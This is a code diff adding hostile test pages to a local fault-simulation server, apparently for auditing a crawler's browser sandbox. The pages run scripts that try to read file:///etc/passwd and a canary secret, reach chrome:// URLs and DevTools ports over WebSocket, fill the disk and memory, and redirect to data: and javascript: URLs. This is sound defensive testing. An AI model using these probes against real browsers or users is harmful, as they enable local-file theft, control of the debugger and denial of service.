@@ -33,6 +33,25 @@ discover.o3d-faults.nl                no ``pages`` configured: the home page lin
                                       switch, mailto and another site, which must never be visited
 ====================================  ==========================================================================
 
+Hostile pages (issue 16, ``HOSTILE_HOSTS``, audited from ``tests/data/expectations-hostile.yaml``): each tries to
+leave the page and reports what it managed to the world's ``/report`` (``hostile_reports``):
+
+====================================  ==========================================================================
+localfile.o3d-faults.nl               ``file://`` navigations: top frame, iframe, ``window.open``, ``fetch`` and
+                                      XHR of a world-readable canary file holding a secret
+chromeurl.o3d-faults.nl               ``chrome://`` navigations (settings, version, sandbox): top frame, iframe,
+                                      ``window.open``, ``fetch``
+localports.o3d-faults.nl              requests to the DevTools ports (9222, 9229: ``/json/version``, WebSocket)
+                                      and to other loopback ports: a plain HTTP "local service" of the world
+                                      (``local_service_log``) by ``localhost``, ``127.0.0.1``, ``127.0.0.2``,
+                                      ``0.0.0.0``, ``[::1]``, and the world's own HTTPS port by IP
+hugedom.o3d-faults.nl                 builds a DOM of 300,000 elements and a 20-million-character text node
+filldisk.o3d-faults.nl                20 downloads of 5 MB (server attachments and JS blobs), IndexedDB and
+                                      Cache API writes of 8 MB blobs up to 96 MB, localStorage to its quota
+unsafe-redirect.o3d-faults.nl         pages that redirect (302) to ``data:`` and ``javascript:`` URLs, and a
+                                      script that sends the top frame to a ``data:`` URL
+====================================  ==========================================================================
+
 Every healthy-looking page sets a server cookie ``fw_sid`` and a script cookie ``fw_pref`` with random values
 and loads a pixel script from the third party ``px.o3d-faults-cdn.net``, which sets its own ``fw_uid``
 (SameSite=None), keeps an id ``fw_px`` in localStorage and copies ``fw_pref`` into the URL of its hit. Every value handed out is recorded in ``issued`` (host, name, value), and every request the
@@ -46,6 +65,7 @@ that no value of one domain's visit ever shows up in another's.
 from __future__ import annotations
 
 import asyncio
+import json
 import secrets
 import shutil
 import socket
@@ -56,7 +76,7 @@ from dataclasses import dataclass
 from datetime import datetime, timedelta, timezone
 from html import escape
 from pathlib import Path
-from urllib.parse import urlsplit
+from urllib.parse import quote, urlsplit
 
 import trustme
 from aiohttp import web
@@ -87,6 +107,20 @@ PARKED = fault_host("parked")
 GONE = fault_host("gone")
 DISCOVER = fault_host("discover")
 
+LOCALFILE = fault_host("localfile")
+CHROMEURL = fault_host("chromeurl")
+LOCALPORTS = fault_host("localports")
+HUGEDOM = fault_host("hugedom")
+FILLDISK = fault_host("filldisk")
+UNSAFEREDIRECT = fault_host("unsafe-redirect")
+HOSTILE_HOSTS: tuple[str, ...] = (LOCALFILE, CHROMEURL, LOCALPORTS, HUGEDOM, FILLDISK, UNSAFEREDIRECT)
+HUGEDOM_ELEMENTS = 300_000
+HUGEDOM_TEXT_CHARS = 20_000_000
+FILLDISK_DOWNLOADS = 20            # half from the server, half JS blobs
+FILLDISK_DOWNLOAD_BYTES = 5 * 2**20
+FILLDISK_STORAGE_BYTES = 96 * 2**20
+DEVTOOLS_PORTS = (9222, 9229)
+
 OTHER_NAME = fault_host("other")                 # the only name on wrongname's certificate
 ELSEWHERE_TARGET = "www.o3d-elsewhere.com"       # where elsewhere.o3d-faults.nl sends everyone
 TRACKER = "px.o3d-faults-cdn.net"                # the third party on every healthy page
@@ -96,7 +130,8 @@ FAULT_HOSTS: tuple[str, ...] = (CONTROL, REFUSED, NODNS, POPUPS, EXPIRED, WRONGN
                                 ELSEWHERE, NOBANNER, BROKENCMP, BUSYLOOP, COOKIESTORM, CHALLENGE, PARKED, GONE,
                                 DISCOVER)
 # answered by the server (the expired/wrong-name hosts too: their TLS handshake completes, the browser refuses it)
-SERVED_HOSTS: tuple[str, ...] = tuple(h for h in FAULT_HOSTS if h not in (REFUSED, NODNS)) + (ELSEWHERE_TARGET, TRACKER)
+SERVED_HOSTS: tuple[str, ...] = (tuple(h for h in FAULT_HOSTS if h not in (REFUSED, NODNS)) + (ELSEWHERE_TARGET, TRACKER)
+                                 + HOSTILE_HOSTS)
 
 STORM_HEADER_COOKIES = 150
 STORM_JS_COOKIES = 3000
@@ -171,6 +206,146 @@ try {{ localStorage.setItem('fw_px', '__PX__'); }} catch (e) {{}}
 
 BUSYLOOP_JS = """window.addEventListener('load', function () {
   setTimeout(function () { var n = 0; while (true) { n++; } }, 300);
+});
+"""
+
+
+# --- hostile pages (issue 16): each reports what it managed to POST /report {what, result} ----------------------------
+REPORT_JS = """function fwReport(what, result) {
+  try { fetch('/report', {method: 'POST', body: JSON.stringify({what: what, result: String(result).slice(0, 300)}),
+                          keepalive: true}); } catch (e) {}
+}
+"""
+
+
+def escape_js(targets: list[str], what: str) -> str:
+    """Try every way out of the page towards ``targets`` (file:// or chrome:// URLs) and report each outcome."""
+    return REPORT_JS + f"""(function () {{
+  var targets = {targets!r};
+  targets.forEach(function (url, i) {{
+    fetch(url).then(function (r) {{ return r.text(); }}).then(function (t) {{ fwReport('{what}-fetch-' + i, 'read: ' + t); }},
+                                                         function (e) {{ fwReport('{what}-fetch-' + i, 'blocked: ' + e); }});
+    try {{
+      var x = new XMLHttpRequest(); x.open('GET', url);
+      x.onload = function () {{ fwReport('{what}-xhr-' + i, 'read: ' + x.responseText); }};
+      x.onerror = function () {{ fwReport('{what}-xhr-' + i, 'blocked: error'); }};
+      x.send();
+    }} catch (e) {{ fwReport('{what}-xhr-' + i, 'blocked: ' + e); }}
+    var f = document.createElement('iframe'); f.src = url; f.style.display = 'none';
+    f.onload = function () {{
+      var t; try {{ t = 'read: ' + f.contentDocument.location.href + ' ' + f.contentDocument.body.innerText; }}
+      catch (e) {{ t = 'blocked: ' + e.name; }}
+      fwReport('{what}-iframe-' + i, t);
+    }};
+    document.body.appendChild(f);
+  }});
+  // with a user gesture (the consent click) a popup does open: towards the first target
+  document.addEventListener('fw:consent', function () {{
+    var w = window.open(targets[0], 'escape', 'width=400,height=300');
+    fwReport('{what}-window.open', w ? 'opened' : 'blocked: null');
+  }});
+  // the top frame itself, after load
+  window.addEventListener('load', function () {{
+    setTimeout(function () {{
+      try {{ location.href = targets[0]; }} catch (e) {{ fwReport('{what}-top', 'blocked: ' + e); }}
+      setTimeout(function () {{ fwReport('{what}-top', 'blocked: still on ' + location.href); }}, 700);
+    }}, 200);
+  }});
+}})();
+"""
+
+
+def localports_js(service_port: int, world_port: int) -> str:
+    svc = service_port
+    targets = [f"http://127.0.0.1:{p}/json/version" for p in DEVTOOLS_PORTS] + [
+        f"http://localhost:{DEVTOOLS_PORTS[0]}/json/list",
+        f"http://127.0.0.1:{svc}/probe?via=127.0.0.1", f"http://localhost:{svc}/probe?via=localhost",
+        f"http://127.0.0.2:{svc}/probe?via=127.0.0.2", f"http://0.0.0.0:{svc}/probe?via=0.0.0.0",
+        f"http://[::1]:{svc}/probe?via=ipv6", f"http://svc.localhost:{svc}/probe?via=sub.localhost",
+        f"https://127.0.0.1:{world_port}/probe?via=world-ip"]
+    sockets = [f"ws://127.0.0.1:{p}/devtools/browser" for p in DEVTOOLS_PORTS] + [
+        f"ws://127.0.0.1:{svc}/ws?via=websocket", f"ws://localhost:{svc}/ws?via=websocket-localhost"]
+    return REPORT_JS + f"""(function () {{
+  {targets!r}.forEach(function (url, i) {{
+    fetch(url, {{mode: 'no-cors'}}).then(function () {{ fwReport('port-fetch ' + url, 'reached'); }},
+                                        function (e) {{ fwReport('port-fetch ' + url, 'blocked: ' + e); }});
+    var img = new Image(); img.src = url + '&img=1';
+  }});
+  {sockets!r}.forEach(function (url) {{
+    try {{
+      var ws = new WebSocket(url);
+      ws.onopen = function () {{ fwReport('port-ws ' + url, 'reached'); ws.send('{{"id":1,"method":"Browser.getVersion"}}'); }};
+      ws.onerror = function () {{ fwReport('port-ws ' + url, 'blocked: error'); }};
+    }} catch (e) {{ fwReport('port-ws ' + url, 'blocked: ' + e); }}
+  }});
+}})();
+"""
+
+
+HUGEDOM_JS = REPORT_JS + f"""window.addEventListener('load', function () {{
+  setTimeout(function () {{
+    var root = document.createElement('div'); root.id = 'huge';
+    var frag = document.createDocumentFragment();
+    for (var i = 0; i < {HUGEDOM_ELEMENTS}; i++) {{
+      var d = document.createElement(i % 3 ? 'span' : 'div'); d.textContent = 'x' + i; frag.appendChild(d);
+    }}
+    root.appendChild(frag);
+    var big = document.createElement('p'); big.textContent = 'y'.repeat({HUGEDOM_TEXT_CHARS}); root.appendChild(big);
+    document.querySelector('main').appendChild(root);
+    fwReport('hugedom', 'elements: ' + document.getElementsByTagName('*').length);
+  }}, 100);
+}});
+"""
+
+FILLDISK_JS = REPORT_JS + f"""window.addEventListener('load', function () {{
+  var MB = 1 << 20, half = {FILLDISK_DOWNLOADS // 2};
+  for (var i = 0; i < half; i++) {{       // attachments from the server
+    var a = document.createElement('a'); a.href = '/big.bin?i=' + i; a.download = 'big' + i + '.bin';
+    document.body.appendChild(a); a.click();
+  }}
+  for (var j = 0; j < half; j++) {{       // blobs made here
+    var b = new Blob([new Uint8Array({FILLDISK_DOWNLOAD_BYTES})], {{type: 'application/octet-stream'}});
+    var a2 = document.createElement('a'); a2.href = URL.createObjectURL(b); a2.download = 'blob' + j + '.bin';
+    document.body.appendChild(a2); a2.click();
+  }}
+  var total = {FILLDISK_STORAGE_BYTES}, chunk = 8 * MB;
+  var req = indexedDB.open('filldisk', 1);
+  req.onupgradeneeded = function () {{ req.result.createObjectStore('b'); }};
+  req.onerror = function () {{ fwReport('indexeddb', 'blocked: ' + (req.error && req.error.name)); }};
+  req.onsuccess = function () {{
+    var db = req.result, n = 0, written = 0;
+    (function next() {{
+      if (written >= total) {{ fwReport('indexeddb', 'wrote ' + written); return; }}
+      var tx = db.transaction('b', 'readwrite');
+      tx.objectStore('b').put(new Blob([new Uint8Array(chunk)]), 'k' + n++);
+      tx.oncomplete = function () {{ written += chunk; next(); }};
+      tx.onabort = function () {{ fwReport('indexeddb', 'stopped after ' + written + ': ' + (tx.error && tx.error.name)); }};
+    }})();
+  }};
+  if (window.caches) {{
+    caches.open('filldisk').then(async function (c) {{
+      var w = 0;
+      try {{ for (var k = 0; k < 4; k++) {{ await c.put('/c' + k, new Response(new Uint8Array(chunk))); w += chunk; }}
+             fwReport('cache', 'wrote ' + w); }}
+      catch (e) {{ fwReport('cache', 'stopped after ' + w + ': ' + e.name); }}
+    }}, function (e) {{ fwReport('cache', 'blocked: ' + e.name); }});
+  }}
+  try {{ var s1 = 'z'.repeat(MB); for (var m = 0; m < 20; m++) localStorage.setItem('fill' + m, s1);
+         fwReport('localstorage', 'wrote 20 M characters'); }}
+  catch (e) {{ fwReport('localstorage', 'quota: ' + e.name); }}
+  if (navigator.storage && navigator.storage.estimate) {{
+    navigator.storage.estimate().then(function (e) {{ fwReport('estimate', 'quota ' + e.quota + ' usage ' + e.usage); }});
+  }}
+}});
+"""
+
+UNSAFE_DATA_PAGE = "<h1>data</h1><script>fetch('https://{host}/report?what=data-page&result=executed', {{mode: 'no-cors'}})</script>"
+
+UNSAFE_TOP_JS = REPORT_JS + """window.addEventListener('load', function () {
+  setTimeout(function () {
+    try { location.href = 'data:text/html,' + encodeURIComponent(DATA_PAGE); } catch (e) { fwReport('top-data', 'blocked: ' + e); }
+    setTimeout(function () { fwReport('top-data', 'blocked: still on ' + location.href); }, 700);
+  }, 200);
 });
 """
 
@@ -254,6 +429,13 @@ class FaultWorld:
         self.issued: list[Issued] = []
         self.tracker_log: list[tuple[str, str]] = []      # (referring host, Cookie header received)
         self.requests_log: list[tuple[str, str, str]] = []  # (host, method, path)
+        self.hostile_reports: list[tuple[str, str, str]] = []   # (host, what, result) as the hostile pages saw it
+        self.local_service_log: list[tuple[str, str]] = []      # (Host header, path) the "local service" received
+        self.local_service_port: int | None = None
+        self.canary_path: Path | None = None                    # world-readable file a page must not read
+        self.canary_secret = secrets.token_hex(16)
+        self._canary_dir: str | None = None
+        self._service_runner: web.AppRunner | None = None
         self._tempdir: str | None = None
         self._refused_sock: socket.socket | None = None
         self._stopping: asyncio.Event | None = None
@@ -316,6 +498,19 @@ class FaultWorld:
         site = web.TCPSite(self._runner, self.bind_host, 0, ssl_context=ssl_ctx)
         await site.start()
         self.port = self._runner.addresses[0][1]
+        # a service on another loopback port (plain HTTP, as local dev servers and agents are): pages must not reach it
+        svc = web.Application()
+        svc.router.add_route("*", "/{tail:.*}", self._local_service)
+        self._service_runner = web.AppRunner(svc, access_log=None, handle_signals=False, shutdown_timeout=1.0)
+        await self._service_runner.setup()
+        await web.TCPSite(self._service_runner, self.bind_host, 0).start()
+        self.local_service_port = self._service_runner.addresses[0][1]
+        # a world-readable canary file (0644 in a 0755 folder): only the browser's own rules keep a page from it
+        self._canary_dir = tempfile.mkdtemp(prefix="cookieaudit-canary-")
+        Path(self._canary_dir).chmod(0o755)
+        self.canary_path = Path(self._canary_dir) / "secret.txt"
+        self.canary_path.write_text(f"canary {self.canary_secret}\n")
+        self.canary_path.chmod(0o644)
         return self
 
     async def stop_async(self) -> None:
@@ -324,6 +519,12 @@ class FaultWorld:
         if self._runner is not None:
             await self._runner.cleanup()
             self._runner = None
+        if self._service_runner is not None:
+            await self._service_runner.cleanup()
+            self._service_runner = None
+        if self._canary_dir:
+            shutil.rmtree(self._canary_dir, ignore_errors=True)
+            self._canary_dir = None
         if self._refused_sock is not None:
             self._refused_sock.close()
             self._refused_sock = None
@@ -375,9 +576,16 @@ class FaultWorld:
             return web.Response(status=204)
         if host == TRACKER:
             return self._tracker(request)
+        if path == "/report" and host in HOSTILE_HOSTS:
+            return await self._report(host, request)
+        if path == "/probe" or host not in SERVED_HOSTS:      # reached by IP (127.0.0.1:PORT) or an unknown name
+            self.local_service_log.append((request.host or "", request.path_qs))
+            return web.Response(text="the world's port, reached directly", status=200)
         if path == "/consent.js":
             js = BROKEN_CONSENT_JS if host == BROKENCMP else CONSENT_JS
             return web.Response(text=js, content_type="application/javascript")
+        if host in HOSTILE_HOSTS:
+            return self._hostile(host, path)
         if host == SLOW:
             await self._stopping.wait()     # never answers while the world runs
             return web.Response(status=503)
@@ -421,6 +629,50 @@ class FaultWorld:
         if host in (CONTROL, ELSEWHERE_TARGET, EXPIRED, WRONGNAME, GONE):
             return self._page(host, "Over ons" if path == "/over-ons" else "Welkom")
         raise web.HTTPNotFound(text=f"unknown host {host!r}")
+
+    async def _report(self, host: str, request: web.Request) -> web.Response:
+        if request.method == "POST":
+            try:
+                data = json.loads(await request.text())
+            except ValueError:
+                data = {"what": "unparsed", "result": (await request.text())[:300]}
+        else:
+            data = dict(request.query)
+        self.hostile_reports.append((host, str(data.get("what")), str(data.get("result"))))
+        return web.Response(status=204, headers={"Access-Control-Allow-Origin": "*"})
+
+    async def _local_service(self, request: web.Request) -> web.Response:
+        self.local_service_log.append((request.host or "", request.path_qs))
+        return web.Response(text='{"Browser": "local service"}', content_type="application/json",
+                            headers={"Access-Control-Allow-Origin": "*"})
+
+    def _hostile(self, host: str, path: str) -> web.StreamResponse:
+        if host == LOCALFILE:
+            assert self.canary_path is not None
+            return self._page(host, "Lokale bestanden", extra_script=escape_js(
+                [self.canary_path.as_uri(), "file:///etc/passwd", "file:///"], "file"))
+        if host == CHROMEURL:
+            return self._page(host, "Browserpagina's", extra_script=escape_js(
+                ["chrome://settings/", "chrome://version/", "chrome://sandbox/"], "chrome"))
+        if host == LOCALPORTS:
+            assert self.local_service_port is not None and self.port is not None
+            return self._page(host, "Lokale poorten", extra_script=localports_js(self.local_service_port, self.port))
+        if host == HUGEDOM:
+            return self._page(host, "Enorme pagina", extra_script=HUGEDOM_JS)
+        if host == FILLDISK and path == "/big.bin":
+            return web.Response(body=bytes(FILLDISK_DOWNLOAD_BYTES), content_type="application/octet-stream",
+                                headers={"Content-Disposition": 'attachment; filename="big.bin"'})
+        if host == FILLDISK:
+            return self._page(host, "Schijf vol", extra_script=FILLDISK_JS if path == "/" else "")
+        if host == UNSAFEREDIRECT and path == "/naar-data":
+            raise web.HTTPFound("data:text/html," + quote(UNSAFE_DATA_PAGE.format(host=host)))
+        if host == UNSAFEREDIRECT and path == "/naar-javascript":
+            raise web.HTTPFound(f"javascript:fetch('https://{host}/report?what=javascript-redirect&result=executed')")
+        if host == UNSAFEREDIRECT:
+            data_page = repr(UNSAFE_DATA_PAGE.format(host=host)).replace("</", "<\\/")   # not inside <script>
+            script = UNSAFE_TOP_JS.replace("DATA_PAGE", data_page) if path == "/" else ""
+            return self._page(host, "Over ons" if path == "/over-ons" else "Welkom", extra_script=script)
+        raise web.HTTPNotFound()
 
     def _tracker(self, request: web.Request) -> web.Response:
         referer = urlsplit(request.headers.get("Referer", "")).hostname or ""
